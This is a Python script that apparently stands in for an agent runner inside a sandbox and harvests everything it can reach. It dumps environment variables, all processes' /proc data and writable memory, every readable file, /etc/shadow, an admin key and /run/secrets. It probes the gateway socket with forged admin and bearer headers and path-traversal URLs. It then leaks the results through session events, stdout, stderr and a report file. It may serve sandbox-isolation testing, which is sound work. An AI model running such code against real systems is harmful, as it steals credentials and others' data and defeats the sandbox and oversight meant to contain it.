"""Runs in the sandbox in place of the runner: takes all it can reach, and writes it wherever it can.

Only reads, and requests over the session's own socket; it changes nothing but its workspace. Standard library only.
"""

import base64
import json
import os
import socket
import stat
import sys
from pathlib import Path

WORK, SOCKET = Path("/work"), "/run/gateway/gateway.sock"
MOST_FILE, MOST_ALL = 2 << 20, 96 << 20
DATASET = "/v1/accounts/local/datasets/tickets"
FORGED = (
    "Authorization: Bearer fw_forged\r\nX-Fireworks-Account-Id: other\r\nX-Forwarded-For: 127.0.0.1\r\nX-Role: admin"
)
PATHS = [
    "/", "/healthz", "/openapi.json", "/docs", "/metrics", "/.env", "/admin.key", "/turn/v1/context", "/turn/v1/cost",
    "/turn/v1/answers/none", "/turn/v1/answers/..%2f..%2fadmin.key", "/v1/accounts", "/v1/accounts/local",
    "/v1/accounts/local/users", "/v1/accounts/local/users/admin", "/v1/accounts/local/users/admin/apiKeys",
    "/v1/accounts/local/apiKeys", "/v1/accounts/local/secrets", "/v1/accounts/local/sessions",
    "/v1/accounts/fireworks/models", "/v1/accounts/fireworks/models/ember-500k", "/v1/accounts/local/models",
    "/v1/accounts/local/datasets", DATASET, f"{DATASET}:download", f"{DATASET}:getDownloadEndpoint",
    "/v1/accounts/local/datasets/none", "/v1/accounts/local/datasets/none:download", "/v1/accounts/other/datasets",
    "/v1/accounts/local/supervisedFineTuningJobs", "/v1/accounts/local/deployments", "/v1/accounts/local/audit",
    "/v1/accounts/local/../../admin.key", "/%2e%2e/%2e%2e/etc/passwd", "//127.0.0.1:8788/v1/accounts", "/v1/models",
    "/v1/accounts/local/datasets?filter=%7B%7D&readMask=*&pageToken=zzz", "/inference/v1/models",
]  # fmt: skip
BODIES = [
    ("/turn/v1/events", {"events": [{"type": "unknown", "payload": {}}]}), ("/turn/v1/plan", {"not": "a plan"}),
    ("/turn/v1/question", {"questionId": "q"}), ("/v1/accounts/local/users/admin/apiKeys", {"apiKey": {}}),
    ("/v1/accounts/local/datasets", {"datasetId": "ok-1", "dataset": {"userUploaded": {}}}),
    ("/v1/accounts/local/datasets", {"datasetId": "tickets", "dataset": {"userUploaded": {}}}),
    ("/v1/accounts/local/supervisedFineTuningJobs", {"dataset": "accounts/local/datasets/tickets"}),
    ("/v1/accounts/local/deployments", {"baseModel": "accounts/fireworks/models/ember-500k"}),
    ("/inference/v1/chat/completions", {"model": "accounts/fireworks/models/ember-500k", "messages": []}),
    ("/v1/accounts/local/sessions", {"instruction": "x"}),
]  # fmt: skip


def main() -> None:
    """Take, keep, tell."""
    found: dict[str, bytes] = {"environ": repr(dict(os.environ)).encode()}
    for take in (take_processes, take_memory, take_files, take_descriptors, take_replies):
        try:
            take(found)
        except OSError as error:
            found[f"error of {take.__name__}"] = repr(error).encode()
    (WORK / "outputs").mkdir(exist_ok=True)
    for number, (name, content) in enumerate(found.items()):
        (WORK / "outputs" / f"{number:05d}.bin").write_bytes(name.encode("utf-8", "replace") + b"\n" + content)
    (WORK / "outputs" / "taken.json").write_text(json.dumps({name: len(content) for name, content in found.items()}))
    (WORK / "final_report.md").write_bytes(b"\n".join(found.values())[: 1 << 20])
    known = (WORK / "known.txt").read_bytes()
    telling = [found["environ"], known, found.get("reply GET /turn/v1/context", b""), *list(found.values())[:40]]
    for number, content in enumerate(telling):
        for text in (content.decode("latin-1")[:12_000], base64.b64encode(content[:12_000]).decode()):
            tell(f"{number}/{len(text)}", text)
    sys.stdout.write(found["environ"].decode() + known.hex() + "\n")
    sys.stderr.write("dying with " + known.decode() + found["environ"].decode() + "\n")
    sys.exit(3)


def take_processes(found: dict[str, bytes]) -> None:
    """All that /proc tells about anybody."""
    names = ("environ", "cmdline", "maps", "mountinfo", "status", "cgroup", "comm", "auxv", "limits", "wchan", "stack")
    for process in Path("/proc").glob("[0-9]*"):
        for name in names:
            found[f"{process}/{name}"] = read(process / name)
        for link in ("cwd", "root", "exe"):
            found[f"{process}/{link}"] = repr(try_link(process / link)).encode()
    for name in ("mounts", "cmdline", "version", "net/unix", "keys", "key-users", "sys/kernel/hostname", "config.gz"):
        found[f"/proc/{name}"] = read(Path("/proc", name))


def take_memory(found: dict[str, bytes]) -> None:
    """Writable memory of every process that lets us."""
    for process in Path("/proc").glob("[0-9]*"):
        for line in read(process / "maps").decode("latin-1").splitlines():
            bounds, rights = line.split()[:2]
            start, end = (int(part, 16) for part in bounds.split("-"))
            if rights.startswith("rw") and end - start <= MOST_FILE and size_of(found) < MOST_ALL:
                found[f"{process}/mem {bounds}"] = read_memory(process / "mem", start, end - start)


def take_files(found: dict[str, bytes]) -> None:
    """Every file that can be read, except the system's and the libraries'."""
    skipped = ("/proc", "/sys", "/usr", "/opt/site", "/opt/python", "/work")
    for top, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if not os.path.join(top, name).startswith(skipped)]  # noqa: PTH118
        for name in files:
            path = Path(top, name)
            if size_of(found) < MOST_ALL:
                found[str(path)] = read(path)
    for path in (
        "/etc/shadow",
        "/etc/passwd",
        "/root/.pilotlight/admin.key",
        "/proc/1/root/etc/passwd",
        "/run/secrets",
    ):
        found[f"asked for {path}"] = read(Path(path))
    found["/work/known.txt"] = read(WORK / "known.txt")


def take_descriptors(found: dict[str, bytes]) -> None:
    """What was left open for us."""
    for number in range(64):
        try:
            os.set_blocking(number, False)
            found[f"descriptor {number}"] = os.read(number, MOST_FILE)
        except OSError:
            continue


def take_replies(found: dict[str, bytes]) -> None:
    """Status, headers and bodies of everything the gateway says, errors above all."""
    for path in PATHS:
        for verb in ("GET", "DELETE"):
            found[f"reply {verb} {path}"] = ask(verb, path)
        found[f"reply forged {path}"] = ask("GET", path, FORGED)
    for path, body in BODIES:
        found[f"reply POST {path} {len(found)}"] = ask("POST", path, "Content-Type: application/json", json.dumps(body))
        found[f"reply broken {path}"] = ask("POST", path, "Content-Type: application/json", '{"a": NaN, "a": ')
    for verb in ("TRACE", "OPTIONS", "CONNECT", "PUT", "PATCH", "HEAD"):
        found[f"reply {verb}"] = ask(verb, DATASET)
    found["reply long"] = ask("GET", "/" + "x" * 70_000)
    found["reply raw"] = talk(b"NOT HTTP AT ALL\r\n\r\n")
    found["reply absolute"] = talk(b"GET http://127.0.0.1:8788/v1/accounts/local HTTP/1.1\r\nHost: x\r\n\r\n")


def ask(verb: str, path: str, headers: str = "Accept: */*", body: str = "") -> bytes:
    """One request, and all that comes back."""
    head = f"{verb} {path} HTTP/1.1\r\nHost: gateway\r\nConnection: close\r\nContent-Length: {len(body)}\r\n"
    return talk(f"{head}{headers}\r\n\r\n{body}".encode())


def talk(data: bytes) -> bytes:
    """Send bytes to the socket and read to the end."""
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(5)
        try:
            line.connect(SOCKET)
            line.sendall(data)
            answer = bytearray()
            while len(answer) < MOST_FILE and (block := line.recv(1 << 16)):
                answer += block
        except OSError as error:
            return repr(error).encode()
    return bytes(answer)


def tell(key: str, text: str) -> None:
    """Put it into the session's events."""
    event = {"type": "status_info", "payload": {"text": text}, "key": f"told/{key}"}
    ask("POST", "/turn/v1/events", "Content-Type: application/json", json.dumps({"events": [event]}))


def read(path: Path) -> bytes:
    """A file's content up to 2 MiB, or what went wrong."""
    try:
        if not stat.S_ISREG(path.stat().st_mode):
            return b""
        with path.open("rb") as file:
            return file.read(MOST_FILE)
    except OSError as error:
        return repr(error).encode()


def read_memory(path: Path, start: int, size: int) -> bytes:
    """Bytes of another's memory, or what went wrong."""
    try:
        with path.open("rb", buffering=0) as file:
            file.seek(start)
            return file.read(size)
    except (OSError, OverflowError) as error:
        return repr(error).encode()


def try_link(path: Path) -> str:
    """Where a link of /proc points."""
    try:
        return str(path.readlink())
    except OSError as error:
        return repr(error)


def size_of(found: dict[str, bytes]) -> int:
    """Bytes taken so far."""
    return sum(map(len, found.values()))


if __name__ == "__main__":
    main()
